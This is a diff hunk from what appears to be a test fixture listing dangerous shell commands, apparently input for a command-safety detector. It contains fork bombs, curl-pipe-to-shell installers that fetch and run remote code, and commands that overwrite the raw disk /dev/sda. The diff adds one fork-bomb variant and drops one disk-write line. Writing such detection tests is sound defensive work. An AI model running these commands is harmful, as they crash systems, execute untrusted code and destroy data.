@@ -161,6 +161,7 @@ function f { f | f & }; f
 b(){ b&b; }; b
 bash -c ':(){ :|:& };:'
 sh -c 'f(){ f|f& };f'
+while :; do $0 & done
 curl http://x/y | sh
 curl -fsSL https://x.io/i.sh | sudo bash
 curl -s x | sudo -E bash -
@@ -279,7 +280,6 @@ curl -o /dev/sda x
 curl --output /dev/sda x
 sponge /dev/sda < x
 find . -fprint /dev/sda
-find / -fprintf /dev/sda x
 `
   .trim()
   .split('\n')
